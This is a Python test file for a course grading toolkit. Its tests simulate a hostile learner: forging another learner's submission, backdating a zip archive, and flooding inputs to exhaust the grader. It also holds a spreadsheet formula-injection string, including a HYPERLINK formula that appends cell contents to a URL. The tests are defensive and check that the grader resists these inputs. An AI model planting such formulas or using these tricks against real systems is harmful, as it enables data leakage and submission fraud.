"""A hostile learner against today's surfaces: the About-you box in collect, and the handgrade template.

Each test is an attack that worked before its fix (see the lead's report for the evidence).
"""

from __future__ import annotations

import csv
import io
import zipfile

import nbformat
import pytest

from toolkit_course.grading import collect

from .test_about_you import _notebook, _put, _register


def _submit_genuine(course, slug, learners, tmp_path, learner="amina01"):
    first = tmp_path / "genuine"
    _put(first, f"{learner}.ipynb", _notebook(course, slug, learner))
    assert [r.learner for r in collect.collect_returned(first, course, learners).placed] == [learner]
    return course.submission(learner, slug).read_bytes()


def test_a_file_whose_path_names_two_learners_cannot_overwrite_the_one_its_box_names(course, slug, tmp_path):
    """The facilitator saves each e-mail's attachment in a folder named by its sender (bruno02/). Bruno names
    his file after Amina and types her id in the box: the path then names both, the box picks Amina, and
    Bruno's notebook must not replace the submission Amina already has."""
    learners = _register(course, tmp_path)
    before = _submit_genuine(course, slug, learners, tmp_path)
    forged = _notebook(course, slug, "amina01")
    forged.cells[-1].source = "Bruno's text, filed as Amina's."
    inbox = tmp_path / "inbox"
    _put(inbox / "bruno02", "amina01-assessment.ipynb", forged)
    report = collect.collect_returned(inbox, course, learners)
    assert course.submission("amina01", slug).read_bytes() == before
    assert not report.placed
    (item, why), = report.to_decide
    assert "amina01" in why


def test_a_zip_dated_in_the_future_does_not_block_the_learners_later_notebook(course, slug, tmp_path):
    """Bruno zips a notebook whose box says amina01, dated 2099: filed for Amina (she had nothing yet), its
    date must not make her own notebook, sent later, look older than the forgery and be set aside."""
    learners = _register(course, tmp_path)
    forged = _notebook(course, slug, "amina01")
    forged.cells[-1].source = "Bruno's text, filed as Amina's."
    archive = tmp_path / "sent.zip"
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr(zipfile.ZipInfo("assessment.ipynb", date_time=(2099, 1, 1, 0, 0, 0)), nbformat.writes(forged))
    collect.collect_returned(archive, course, learners)
    genuine = _put(tmp_path / "later", "amina01.ipynb", _notebook(course, slug, "amina01"))
    report = collect.collect_returned(genuine.parent, course, learners)
    assert [r.learner for r in report.placed] == ["amina01"], report.lines()
    assert course.submission("amina01", slug).read_bytes() == genuine.read_bytes()
    stamp = (course.submission("amina01", slug).parent / "timestamp.txt").read_text(encoding="utf-8")
    assert not stamp.startswith("2099")


# ---------------------------------------------------------------- workshop report inputs

def test_a_giant_comment_is_a_clear_error_naming_file_and_row(tmp_path):
    from toolkit_course.grading import workshop_inputs

    path = tmp_path / "evaluation.csv"
    path.write_text("relevance,quality,confidence,comment\n4,4,4,fine\n5,5,5," + "x" * 200_000 + "\n", encoding="utf-8")
    try:
        workshop_inputs.read_evaluations(path)
    except workshop_inputs.WorkshopInputError as error:
        assert str(path) in str(error) and "row 3" in str(error)
    else:
        raise AssertionError("a 200,000-character comment was read without a word")


def test_a_comment_keeps_its_line_breaks_and_odd_separators(tmp_path):
    """A quoted comment may hold a line break or a Unicode line separator; each is one comment, kept whole."""
    from toolkit_course.grading import workshop_inputs

    path = tmp_path / "evaluation.csv"
    path.write_text('relevance,quality,confidence,comment\n5,5,5,"first line\nsecond\u2028third"\n4,4,4,short\n',
                    encoding="utf-8")
    evaluations = workshop_inputs.read_evaluations(path)
    assert evaluations.comments == ["first line\nsecond\u2028third", "short"]


# ---------------------------------------------------------------- the handgrade template in a spreadsheet

FORMULA_START = ("=", "+", "-", "@")
# A reflection written so that a spreadsheet splitting the template on another separator than the comma (the
# default in much of Europe and Latin America is the semicolon; tab is common too) meets a formula at the start
# of a cell: after a semicolon, after a tab, on a new line, and after spaces.
SPLIT_FORMULAS = ('Smuggled migrants keep their rights;=HYPERLINK("http://127.0.0.1/x?"&A1,"see source")'
                  '\tthen+SUM(1,2)\n=1+1 on a new line\n   @SUM(9) after spaces; -2+3')


@pytest.fixture(scope="module")
def template_rows(tmp_path_factory):
    """The handgrade template written by the real command for a learner whose reflection hides formulas."""
    from toolkit_course import assessment_notebook, content
    from toolkit_course.grading import roster

    from .conftest import answer_key, copy_course, student_notebook, submit
    from .test_handgrade import run

    monkeypatch = pytest.MonkeyPatch()
    base = tmp_path_factory.mktemp("template")
    course = copy_course(base, monkeypatch)
    slug = content.assessed_slugs()[0]
    people = base / "learners.csv"
    people.write_text("id,name,email,sex,role\ndara04,Dara Okafor,dara04@example.org,,learner\n", encoding="utf-8")
    roster.register(roster.read_roster(people), course, roster_path=people)
    spec = content.load(slug, "assessment")
    item_of = {item["variable"]: item["id"] for item in spec["items"]}
    notebook = assessment_notebook.fill_answers(
        student_notebook(course, slug), {item_of[v]: value for v, value in answer_key(slug).items()},
        reflections={r["id"]: SPLIT_FORMULAS for r in spec["reflections"]})
    submit(course, "dara04", slug, notebook)
    assert run(course, "autograde", slug, "--workspace", str(course.workspace), "--no-progress").returncode == 0
    template = base / "waiting.csv"
    made = run(course, "handgrade", "--template", str(template), "--workspace", str(course.workspace))
    assert made.returncode == 0, made.stdout + made.stderr
    yield template.read_text(encoding="utf-8-sig")
    monkeypatch.undo()


@pytest.mark.slow
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_template_starts_a_formula_whatever_the_separator(template_rows, delimiter):
    assert "Smuggled migrants keep their rights" in template_rows  # the learner's text is there to mark
    # A spreadsheet reads only its own separator: quotes opened in the middle of a cell mean nothing to it.
    reader = csv.reader(io.StringIO(template_rows, newline=""), delimiter=delimiter, quoting=csv.QUOTE_NONE) \
        if delimiter != "," else csv.reader(io.StringIO(template_rows, newline=""))
    cells = [cell.strip(' "') for row in reader for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def test_an_about_you_box_of_700_000_lines_is_not_parsed(course, slug, tmp_path, monkeypatch):
    """A box is one line. A box of 700,000 short lines (17 MiB) took the grader's reader about 15 s per file (2,000 files
    a batch); collect must not parse it, and must say why it did not read it."""
    learners = _register(course, tmp_path)
    parsed = []
    real = collect.read_literal_answer
    monkeypatch.setattr(collect, "read_literal_answer", lambda source, name: parsed.append(len(source)) or
                        real(source, name))
    notebook = _notebook(course, slug, None)
    box = next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "about-you")
    box.source = "\n".join(f"x{i} = {i}" for i in range(700_000)) + '\nmy_learner_id = "amina01"'
    _put(tmp_path / "inbox", "bruno02.ipynb", notebook)
    report = collect.collect_returned(tmp_path / "inbox", course, learners)
    assert parsed == []
    assert [r.learner for r in report.placed] == ["bruno02"], report.lines()
    assert "too long to read" in "\n".join(report.lines())
